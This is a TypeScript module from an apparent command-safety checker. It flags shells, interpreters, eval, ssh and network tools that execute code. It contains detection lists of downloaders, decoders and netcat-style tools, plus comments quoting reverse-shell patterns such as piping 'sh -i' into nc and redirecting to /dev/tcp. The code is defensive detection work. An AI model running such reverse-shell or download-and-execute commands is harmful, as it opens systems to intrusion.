// Checks for commands that run other code: shells and interpreters (sh -c, python -c, a script on standard
// input), eval, su -c, ssh HOST CMD, watch, and network tools that hand out a shell. Pure.
import { parseFlags, type Argv } from '../argv.js';
import type { Word } from '../words.js';
import { show, stdinText, type Check, type CheckContext, type Io } from './types.js';

export const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'mksh', 'ash', 'fish', 'csh', 'tcsh', 'yash', 'rbash']);
export const DOWNLOADERS = new Set(['curl', 'wget', 'fetch', 'aria2c', 'http', 'https', 'xh', 'lwp-request', 'GET']);
const NETWORK_TOOLS = new Set(['nc', 'ncat', 'netcat', 'telnet', 'socat', 'cryptcat']);

/** Interpreter name → the option that gives code on the command line. */
const INTERPRETERS: Record<string, { codeOpts: string[]; language: string }> = {
  python: { codeOpts: ['-c'], language: 'python' },
  node: { codeOpts: ['-e', '--eval', '-p', '--print'], language: 'javascript' },
  nodejs: { codeOpts: ['-e', '--eval', '-p', '--print'], language: 'javascript' },
  deno: { codeOpts: ['eval'], language: 'javascript' },
  bun: { codeOpts: ['-e', '--eval'], language: 'javascript' },
  perl: { codeOpts: ['-e', '-E'], language: 'perl' },
  ruby: { codeOpts: ['-e'], language: 'ruby' },
  php: { codeOpts: ['-r'], language: 'php' },
  lua: { codeOpts: ['-e'], language: 'lua' },
};

export function interpreterOf(name: string): { codeOpts: string[]; language: string } | undefined {
  const base = /^python[\d.]*$/.test(name) ? 'python' : /^(perl|ruby|php|lua)[\d.]*$/.test(name) ? name.replace(/[\d.]+$/, '') : name;
  return Object.hasOwn(INTERPRETERS, base) ? INTERPRETERS[base] : undefined;
}

export const runsCode = (name: string | null): boolean => name !== null && (SHELLS.has(name) || interpreterOf(name) !== undefined);

/** Does any command inside these substitutions download something? */
function substitutesDownload(words: Word[], downloads: (node: Word['substitutions'][number]) => boolean): boolean {
  return words.some((w) => w.substitutions.some(downloads));
}

/** Index of the first operand: options (and the values of `valueOpts`) come before it; `--` ends them. */
function firstOperand(args: Word[], valueOpts: string[]): number {
  let i = 0;
  while (i < args.length && args[i]!.text.startsWith('-')) {
    if (args[i]!.text === '--') return i + 1;
    i += valueOpts.includes(args[i]!.text) ? 2 : 1;
  }
  return i;
}

/** Standard input that carries a program: downloaded, decoded, or literal text. */
function stdinProgram(cmd: Argv, io: Io, ctx: CheckContext, language: string | null): void {
  const names = io.upstream.map((u) => u.argv?.name);
  if (names.some((n) => n !== undefined && n !== null && DOWNLOADERS.has(n))) ctx.add('remote-code-exec', show(cmd));
  if (io.upstream.some((u) => u.argv !== null && isDecoder(u.argv))) ctx.add('decoded-to-shell', show(cmd));
  if (names.some((n) => n !== undefined && n !== null && NETWORK_TOOLS.has(n))) ctx.add('reverse-shell', show(cmd));
  const text = stdinText(io);
  if (text !== undefined) {
    if (language === null) ctx.script(text);
    else ctx.code(text, language);
  }
}

function isDecoder(a: Argv): boolean {
  const f = parseFlags(a.args);
  if (a.name === 'base64' || a.name === 'base32' || a.name === 'basenc') return f.short.has('d') || f.long.has('--decode');
  if (a.name === 'xxd') return f.short.has('r') || f.long.has('--revert');
  if (a.name === 'openssl') return a.args.some((w) => w.text === '-d' || w.text === '-decode');
  return a.name === 'uudecode' || a.name === 'rev';
}

export function execChecks(downloads: (node: Word['substitutions'][number]) => boolean): (name: string) => Check | undefined {
  const shell: Check = (cmd, io, ctx) => {
    const f = parseFlags(cmd.args, ['-o', '+o', '-O']);
    if (substitutesDownload(cmd.args, downloads)) ctx.add('remote-code-exec', show(cmd));
    if (f.short.has('c')) {
      // sh -c STRING [name args...]: the first operand is the script.
      const script = f.operands[0];
      if (script) ctx.script(script.text);
      return;
    }
    if (io.stdinFile && substitutesDownload([io.stdinFile], downloads)) ctx.add('remote-code-exec', show(cmd));
    // `sh -i` with a network tool in the pipeline, or `bash -i >& /dev/tcp/...` (the redirect is checked on its own).
    if (f.operands.length === 0 || f.short.has('s')) stdinProgram(cmd, io, ctx, null);
  };

  const interpreter: Check = (cmd, io, ctx) => {
    const spec = interpreterOf(cmd.name!)!;
    if (substitutesDownload(cmd.args, downloads)) ctx.add('remote-code-exec', show(cmd));
    const f = parseFlags(cmd.args, spec.codeOpts.filter((o) => o.startsWith('-')));
    const code = spec.codeOpts.map((o) => f.values.get(o)).find((v) => v !== undefined);
    if (spec.codeOpts.includes('eval') && cmd.args[0]?.text === 'eval' && cmd.args[1]) ctx.code(cmd.args[1].text, spec.language);
    if (code !== undefined) ctx.code(code, spec.language);
    else if (f.operands.length === 0 || f.operands[0]!.text === '-') stdinProgram(cmd, io, ctx, spec.language);
  };

  const evalCheck: Check = (cmd, _io, ctx) => {
    if (substitutesDownload(cmd.args, downloads)) ctx.add('remote-code-exec', show(cmd));
    ctx.script(cmd.args.map((a) => a.text).join(' '));
  };

  const source: Check = (cmd, io, ctx) => {
    if (substitutesDownload(cmd.args, downloads)) ctx.add('remote-code-exec', show(cmd));
    if (cmd.args[0]?.text === '/dev/stdin') stdinProgram(cmd, io, ctx, null);
  };

  const su: Check = (cmd, _io, ctx) => {
    const f = parseFlags(cmd.args, ['-c', '--command', '-s', '--shell', '-g', '--group', '-G', '-u', '--user']);
    const script = f.values.get('-c') ?? f.values.get('--command');
    if (script !== undefined) ctx.script(script);
  };

  const ssh: Check = (cmd, _io, ctx) => {
    // Options, the host, then the remote command as the rest of the words.
    const at = firstOperand(cmd.args, ['-p', '-i', '-l', '-o', '-F', '-J', '-L', '-R', '-D', '-b', '-c', '-e', '-m', '-O', '-Q', '-S', '-W', '-w', '-E', '-B', '-I']);
    const remote = cmd.args.slice(at + 1);
    if (remote.length > 0) ctx.script(remote.map((w) => w.text).join(' '));
  };

  const watch: Check = (cmd, _io, ctx) => {
    const at = firstOperand(cmd.args, ['-n', '--interval', '-q', '--equexit']);
    if (at < cmd.args.length) ctx.script(cmd.args.slice(at).map((w) => w.text).join(' '));
  };

  const script: Check = (cmd, _io, ctx) => {
    const f = parseFlags(cmd.args, ['-c', '--command', '-E', '--echo', '-I', '--log-in', '-O', '--log-out', '-T', '--log-timing']);
    const c = f.values.get('-c') ?? f.values.get('--command');
    if (c !== undefined) ctx.script(c);
  };

  const netcat: Check = (cmd, _io, ctx) => {
    const f = parseFlags(cmd.args, ['-p', '-s', '-w', '-i', '-x', '-X', '-q']);
    if (f.short.has('e') || f.short.has('c') || f.long.has('--exec') || f.long.has('--sh-exec') || f.long.has('--lua-exec')) ctx.add('reverse-shell', show(cmd));
    // A shell earlier in the same pipeline talks to the network through this tool.
  };

  const socat: Check = (cmd, _io, ctx) => {
    if (cmd.args.some((a) => /^(exec|system):/i.test(a.text) || /,\s*(exec|system):/i.test(a.text))) ctx.add('reverse-shell', show(cmd));
  };

  const awk: Check = (cmd, _io, ctx) => {
    const f = parseFlags(cmd.args, ['-F', '-v', '-f', '--file', '--assign', '--field-separator']);
    const program = f.values.has('-f') || f.values.has('--file') ? undefined : f.operands[0];
    if (program) ctx.code(program.text, 'awk');
  };

  const checks: Record<string, Check> = { eval: evalCheck, source, '.': source, su, runuser: su, sg: su, ssh, watch, script, socat, awk, gawk: awk, mawk: awk, nawk: awk };
  for (const s of SHELLS) checks[s] = shell;
  for (const n of NETWORK_TOOLS) if (n !== 'socat') checks[n] = netcat;
  return (name: string) => (Object.hasOwn(checks, name) ? checks[name] : interpreterOf(name) ? interpreter : undefined);
}

/** A shell in a pipeline with a network tool (either side) is a reverse shell: `sh -i | nc host 4444`. */
export function pipelineShellOverNetwork(names: (string | null)[]): boolean {
  return names.some((n) => n !== null && SHELLS.has(n)) && names.some((n) => n !== null && NETWORK_TOOLS.has(n));
}
